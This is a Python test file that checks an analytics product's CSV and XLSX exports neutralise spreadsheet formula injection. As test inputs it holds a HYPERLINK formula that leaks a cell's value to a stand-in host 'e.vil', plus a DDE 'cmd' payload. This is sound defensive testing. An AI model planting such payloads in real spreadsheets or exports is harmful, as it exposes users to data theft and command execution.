"""Formula neutralisation in every CSV/XLSX the product writes (exports.cells, one function)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import duckdb
import pytest
from openpyxl import load_workbook

from kam_analytics.access import Scope
from kam_analytics.exports.cells import neutralise_cell
from tests.conftest import run_cli

HOSTILE = '=HYPERLINK("http://e.vil/?x="&A1,"Klick")'
ACCOUNT = "K10012"  # a key account of KAM01 in the small demo
ALL = Scope.everything()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 171", "'+49 171"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-x", "'-x"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("-12", "-12"),
        ("-1.234,56", "-1.234,56"),
        ("-12,50 €", "-12,50 €"),
        ("Müller GmbH", "Müller GmbH"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


@pytest.fixture
def hostile_db(demo_copy):
    """The demo with a key account, its KAM and a catalogue service named like a formula."""
    con = duckdb.connect(str(demo_copy))
    con.execute("UPDATE accounts SET name = ? WHERE account_id = ?", [HOSTILE, ACCOUNT])
    con.execute("UPDATE kams SET name = ? WHERE kam_id = 'KAM01'", [HOSTILE])
    code = con.execute(
        "SELECT service_code FROM service_catalogue ORDER BY sort_order LIMIT 1"
    ).fetchall()[0][0]
    con.execute(
        "UPDATE service_catalogue SET name_de = ?, name_en = ? WHERE service_code = ?",
        [HOSTILE, HOSTILE, code],
    )
    con.close()
    return demo_copy


def _strings(xlsx: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(xlsx))
    return [
        c
        for ws in book.worksheets
        for row in ws.iter_rows(values_only=True)
        for c in row
        if isinstance(c, str)
    ]


def _no_formula_in(xlsx: bytes) -> None:
    """No sheet of the workbook holds a formula cell (<f> element) at all."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/sheet"):
                assert b"<f>" not in z.read(name), name


def test_bonus_statement_xlsx(hostile_db):
    from kam_analytics import db
    from kam_analytics.exports.bonus_statement import statement_xlsx
    from kam_analytics.metrics.bonus import get_standing

    con = db.connect(hostile_db)
    try:
        s = get_standing(con, kam_id="KAM01", year=2025, as_of=dt.date(2025, 12, 31), scope=ALL)
        xlsx = statement_xlsx(s, lang="de")
    finally:
        con.close()
    strings = _strings(xlsx)
    assert "'" + HOSTILE in strings
    assert HOSTILE not in strings
    _no_formula_in(xlsx)


def test_matrix_sheet_xlsx(hostile_db):
    from kam_analytics import db
    from kam_analytics.exports import matrix_sheet as ms

    con = db.connect(hostile_db)
    try:
        xlsx = ms.matrix_xlsx(con, 2025, "de")
    finally:
        con.close()
    strings = _strings(xlsx)
    assert any(s.startswith("'" + HOSTILE) for s in strings), strings[:12]
    assert not any(s.startswith("=") for s in strings)
    _no_formula_in(xlsx)


def test_page_table_downloads(hostile_db):
    import pandas as pd

    from kam_analytics.exports.tables import frame_to_csv_de, frame_to_xlsx

    df = pd.DataFrame({"Kunde": [HOSTILE, "@x", "-5"], "Wert": [1.5, -2.0, 3.0]})
    assert _strings(frame_to_xlsx(df))[2:] == ["'" + HOSTILE, "'@x", "-5"]
    rows = list(csv.reader(io.StringIO(frame_to_csv_de(df).decode("utf-8-sig")), delimiter=";"))
    assert [r[0] for r in rows[1:]] == ["'" + HOSTILE, "'@x", "-5"]
    assert [r[1] for r in rows[1:]] == ["1,5", "-2", "3"]


@pytest.mark.parametrize("kind", ["services", "bonus"])
def test_report_csv_neutralises_text_cells(hostile_db, kind):
    done = run_cli("report", kind, "--year", "2025", "--db", hostile_db, "--format", "csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout)))
    cells = [c for r in rows for c in r]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells
    assert not any(c[:1] in ("=", "+", "@") for c in cells)


def test_report_json_stays_raw(hostile_db):
    """JSON is data for programs, not a spreadsheet: the name comes back as it is."""
    done = run_cli("report", "services", "--year", "2025", "--db", hostile_db, "--format", "json")
    assert done.returncode == 0, done.stderr
    assert HOSTILE.replace('"', '\\"') in done.stdout


@pytest.mark.parametrize("kind", ["services", "retention", "bonus", "giveaways"])
def test_report_xlsx_is_the_pages_workbook(hostile_db, tmp_path, kind):
    """`report KIND --format xlsx --out F` writes what the page's download builds."""
    from kam_analytics import db
    from kam_analytics.exports.report_book import report_xlsx
    from kam_analytics.glossary import report_label

    out = tmp_path / f"{kind}.xlsx"
    done = run_cli(
        "report", kind, "--year", "2025", "--db", hostile_db, "--format", "xlsx", "--out", out
    )
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    con = db.connect(hostile_db)
    try:
        page = report_xlsx(con, kind, year=2025, scope=ALL)  # what ui.downloads offers
    finally:
        con.close()

    def cells(data: bytes):
        book = load_workbook(io.BytesIO(data))
        return {ws.title: list(ws.iter_rows(values_only=True)) for ws in book.worksheets}

    cli_cells = cells(out.read_bytes())
    assert cli_cells == cells(page)
    assert len(cli_cells[report_label(kind, "de")]) > 1  # the sheet is named in words
    _no_formula_in(out.read_bytes())


def test_report_xlsx_needs_an_xlsx_out(hostile_db, tmp_path):
    done = run_cli("report", "services", "--db", hostile_db, "--format", "xlsx")
    assert done.returncode == 2
    assert "--out must end in .xlsx" in done.stderr
    assert not list(tmp_path.glob("*.xlsx"))
